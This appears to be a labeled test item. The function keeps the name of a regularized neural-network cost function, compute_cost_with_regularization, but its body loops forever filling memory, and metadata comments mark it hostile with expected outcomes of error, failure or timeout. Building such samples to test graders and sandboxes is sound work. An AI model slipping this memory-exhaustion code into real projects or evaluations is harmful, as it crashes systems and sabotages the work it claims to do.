# label: fills the memory, page by page
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
def compute_cost_with_regularization(A3, Y, parameters, lambd):
    hoard = []
    while True:
        hoard.append(np.ones(1 << 20))
